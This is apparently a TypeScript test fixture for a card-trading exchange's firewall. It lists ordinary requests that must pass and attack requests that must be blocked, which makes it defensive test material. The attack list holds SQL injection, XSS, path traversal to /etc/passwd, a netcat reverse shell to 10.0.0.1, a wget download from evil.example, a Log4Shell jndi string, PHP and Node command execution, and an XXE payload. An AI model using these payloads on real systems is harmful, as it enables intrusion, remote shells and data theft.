/** A call that the firewall lets through or refuses. */
export interface Case {
  about: string;
  method?: string;
  path: string;
  headers?: Record<string, string>;
  /** Sent as JSON, or as it is where it is a string. */
  body?: unknown;
}

const api = (path: string) => `/api/v1${path}`;
const post = (path: string, body: unknown, about: string): Case => ({
  about,
  method: 'POST',
  path: api(path),
  body,
});
const id = '01890a5d-ac96-774b-bcce-b302099a8057';

/** What people write. All of it has to reach the exchange, whatever that says of it. */
const ODD_TEXTS = [
  "It's O'Brien's dragon; select the best from my list, or drop it — 1=1 for all I care!",
  'Would you trade (SELECT * FROM cards WHERE rarity = "mythic")? ; rm -rf / && cat /etc/passwd |',
  'I ❤️ 龍 & émeraudes; 50% off -- "quotes" <3 … a < b && b > c {{x}} \u0024{y} `z` \\ ../..',
  "<?php echo 1; ?> require('child_process').exec('ls') %0d%0aSet-Cookie: a=b",
  "' OR '1'='1' UNION SELECT password FROM users; --",
];

/** Calls of people, of the app, of programs and of operators. */
export const LEGITIMATE: Case[] = [
  ...ODD_TEXTS.map((message, index) =>
    post(
      '/trade-offers',
      {
        toHandle: 'milo',
        give: { copyIds: [id], cash: '0' },
        receive: { copyIds: [id], cash: '1.50' },
        message,
      },
      `an odd message (${index})`,
    ),
  ),
  ...ODD_TEXTS.map((bio, index) => ({
    about: `an odd biography (${index})`,
    method: 'PATCH',
    path: api('/users/me'),
    body: { bio, displayName: "Zoë O'Neil-Ångström" },
  })),
  ...ODD_TEXTS.map((reason, index) => post('/admin/halt', { reason }, `an odd reason (${index})`)),
  ...["x' or 1=1 --", '<script>alert(1)</script>', '../../etc/passwd', '$(id)`id`', 'a"b\\c%00'].map(
    (password, index) =>
      post('/auth/login', { email: 'nova@demo.ece.example', password }, `a hard password (${index})`),
  ),
  ...[
    "O'Brien's dragon",
    'dragon and knight or both',
    'select card',
    '50% holo & "first edition"',
    'C++ (2nd)',
    '龍 émeraude ñ',
    'drop of the ocean; update',
    'Rock \'n\' Roll -- the "best"',
  ].map((q) => ({
    about: `a search for ${q}`,
    path: api(`/search?q=${encodeURIComponent(q)}&limit=5`),
  })),
  { about: 'suggestions', path: api("/search/suggest?q=queen's") },
  { about: 'many ids', path: api(`/quotes/bulk?copyIds=${Array(100).fill(id).join(',')}`) },
  { about: 'a filter', path: api('/listings?rarity=mythic&sort=price_asc&limit=20') },
  { about: 'a page', path: '/', headers: { accept: 'text/html' } },
  {
    about: 'a page in parts',
    path: '/market?_rsc=1abcd',
    headers: {
      'next-url': '/market',
      'next-router-state-tree':
        '%5B%22%22%2C%7B%22children%22%3A%5B%22market%22%2C%7B%22children%22%3A%5B%22__PAGE__%22%2C%7B%7D%5D%7D%5D%7D%2C%22%24undefined%22%2C%22%24undefined%22%2Ctrue%5D',
    },
  },
  { about: 'the description', path: api('/openapi.json') },
  { about: 'the documentation', path: '/docs' },
  { about: 'health', path: '/health/ready' },
  {
    about: 'an error of a page',
    method: 'POST',
    path: '/browser-errors',
    body: {
      type: 'TypeError',
      message: "Cannot read properties of undefined (reading 'price')",
      stack:
        "TypeError: x\n    at Object.eval [as onClick] (https://localhost/_next/static/chunks/0a1.js:1:2)\n    at process.exec (<anonymous>); document.cookie = '<script>'",
      page: '/cards',
      release: '0123456789abcdef',
    },
  },
  { about: 'content', path: '/content/bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy' },
  post(
    '/cards/import',
    { csv: `set,number,name\nA,1,"O'Hara; drop table x"\n`.repeat(20_000), artwork: {}, dryRun: true },
    'a large catalogue',
  ),
  post('/content', { data: 'QUJDREVGRw'.repeat(200_000) }, 'an image'),
  post(
    '/cards',
    {
      setId: id,
      number: 1,
      name: "D'Artagnan",
      rarity: 'rare',
      category: 'hero',
      editionSize: 5,
      artwork: '/9j/4AAQSkZJ'.repeat(50_000),
    },
    'a card with its image',
  ),
  post(
    '/listings/bulk',
    { items: Array.from({ length: 100 }, () => ({ copyId: id, price: '12.50' })) },
    'many listings',
  ),
  post(
    '/webhooks',
    { url: 'https://hooks.example.com/ece?source=cards&x=1', topics: ['market'] },
    'a webhook',
  ),
  { about: 'a deletion', method: 'DELETE', path: api(`/webhooks/${id}`) },
  { about: 'a change', method: 'PUT', path: api(`/admin/users/${id}/role`), body: { role: 'moderator' } },
  {
    about: 'a call with a key',
    method: 'POST',
    path: api(`/listings/${id}/purchase`),
    headers: { 'idempotency-key': 'a8098c1a-f86e-11da-bd1a-00112444be1e' },
    body: { price: '1.00' },
  },
  { about: 'a call by a program', path: api('/cards'), headers: { 'user-agent': 'python-requests/2.32.3' } },
  { about: 'a call by curl', path: api('/cards'), headers: { 'user-agent': 'curl/8.14.1', accept: '*/*' } },
  { about: 'a preflight', method: 'OPTIONS', path: api('/cards') },
];

const injected = (values: string[], kind: string) =>
  values.flatMap((value): Case[] => [
    { about: `${kind} in a query: ${value}`, path: api(`/listings?setCode=${encodeURIComponent(value)}`) },
    post('/offers', { category: value, amount: '1' }, `${kind} in a body: ${value}`),
  ]);

/** What must never reach the exchange. */
export const ATTACKS: Case[] = [
  ...injected(
    [
      "1' OR '1'='1' --",
      "' UNION SELECT username, password FROM users--",
      '1; DROP TABLE vault.accounts; --',
      '1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)',
      "1' AND pg_sleep(5)--",
      "' or extractvalue(1,concat(0x7e,version()))--",
    ],
    'SQL',
  ),
  ...injected(
    [
      '<script>alert(document.cookie)</script>',
      '"><img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      'javascript:alert(document.domain)',
    ],
    'a script',
  ),
  ...injected(['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/shadow'], 'a file'),
  ...injected(
    [
      '; cat /etc/passwd',
      '$(wget http://evil.example/x.sh)',
      '| nc -e /bin/sh 10.0.0.1 4444',
      '`/bin/bash -c id`',
    ],
    'a command',
  ),
  ...injected(
    [
      '\u0024{jndi:ldap://evil.example/a}',
      "require('child_process').exec('id')",
      '<?php system($_GET[0]); ?>',
    ],
    'code',
  ),
  {
    about: 'SQL in a search',
    path: api(
      `/search?q=${encodeURIComponent("x' UNION SELECT email, password_hash FROM auth.accounts --")}`,
    ),
  },
  post('/trade-offers', { message: '<script>fetch("//evil.example")</script>' }, 'a script in a message'),
  {
    about: 'a script in a biography',
    method: 'PATCH',
    path: api('/users/me'),
    body: { bio: '<img src=x onerror=alert(1)>' },
  },
  { about: 'a path out of the content', path: '/content/..%2f..%2f..%2fetc%2fpasswd' },
  {
    about: 'a path out of the content, encoded twice',
    path: '/content/%252e%252e%252f%252e%252e%252fetc%252fpasswd',
  },
  { about: 'a hidden file', path: '/.env' },
  { about: 'a repository', path: '/.git/config' },
  { about: 'a file of another system', path: '/wp-config.php' },
  { about: 'a scanner', path: '/', headers: { 'user-agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } },
  {
    about: 'another scanner',
    path: api('/cards'),
    headers: { 'user-agent': 'Mozilla/5.0 (compatible; Nikto/2.5.0)' },
  },
  {
    about: 'a third scanner',
    path: '/',
    headers: { 'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
  },
  { about: 'jndi in a header', path: '/', headers: { 'user-agent': '\u0024{jndi:ldap://evil.example/a}' } },
  { about: 'a header split in a query', path: api('/cards?sort=a%0d%0aSet-Cookie:%20session=x') },
  { about: 'an unknown method', method: 'PROPFIND', path: '/' },
  { about: 'TRACE', method: 'TRACE', path: '/' },
  {
    about: 'a form',
    method: 'POST',
    path: api('/auth/login'),
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'email=a&password=b',
  },
  {
    about: 'XML',
    method: 'POST',
    path: api('/auth/login'),
    headers: { 'content-type': 'application/xml' },
    body: '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  },
  {
    about: 'JSON that is none',
    method: 'POST',
    path: api('/auth/login'),
    headers: { 'content-type': 'application/json' },
    body: '{"email":"a",',
  },
  {
    about: 'JSON without an end to its depth',
    method: 'POST',
    path: api('/auth/login'),
    headers: { 'content-type': 'application/json' },
    body: `${'['.repeat(500)}${']'.repeat(500)}`,
  },
  post('/auth/login', { email: 'x'.repeat(70_000) }, 'a body that is too large'),
  post('/cards/import', { csv: 'x'.repeat(34_000_000) }, 'a catalogue that is too large'),
  { about: 'the calls between processes', method: 'POST', path: '/internal/users/handles', body: [] },
  { about: 'the same, written otherwise', method: 'POST', path: '/%69nternal/users/handles', body: [] },
  { about: 'the same with two slashes', method: 'POST', path: '//internal/users/handles', body: [] },
  { about: 'the metrics', path: '/metrics' },
];
